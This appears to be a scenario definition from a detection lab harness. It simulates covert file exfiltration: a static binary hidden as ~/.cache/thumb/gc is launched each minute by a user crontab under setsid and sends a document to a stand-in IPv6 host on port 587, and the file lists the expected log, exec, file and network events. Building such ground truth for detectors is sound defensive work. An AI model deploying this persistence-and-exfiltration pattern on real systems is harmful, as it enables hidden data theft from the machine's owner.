# A program of its own that needs nothing of the system, over IPv6.
title="Static binary sends files straight to an outside submission port over IPv6"
what="A statically linked program that somebody left in ~/.cache of buyer is started every minute by a user crontab and, started with setsid, sends a document straight to 2001:db8:99:1::19 port 587, in three pieces, a connection each."
host=ws3.example.org user=buyer daemons="cron" syslog_format=iso

setup() {
  cc -O1 -static -o "$base/out/post6" "$lab/lib/stand-ins/post6.c" || return 1
  mkdir -p /home/buyer/.cache/thumb; install -m 755 "$base/out/post6" /home/buyer/.cache/thumb/gc; head -c 30000 /dev/urandom > /home/buyer/offer.ods
  chown -R buyer: /home/buyer/.cache /home/buyer/offer.ods
  printf '* * * * * setsid -w $HOME/.cache/thumb/gc 2001:db8:99:1::19 587 $HOME/offer.ods\n' > "$base/out/crontab"
}
act() {
  small_talk 2
  crontab -u buyer "$base/out/crontab"
  for _ in $(seq 1 150); do grep -q 'CMD.*thumb/gc' /var/log/recorded && break; sleep 0.5; done
  sleep 5
  crontab -u buyer -r
  small_talk 1
}
truth() {
  log_step job 'CRON.*CMD.*thumb/gc' 'cron starts the job'
  exec_step start '.cache/thumb/gc 2001:db8:99:1::19 587' 'the program runs, in a session of its own'
  file_step read 'gc open(at)?:read NORMAL /home/buyer/offer.ods' 'it reads the document'
  net_step connect 'gc .2001:db8:99:1::19.:587' 'and connects to a submission port over IPv6'
}
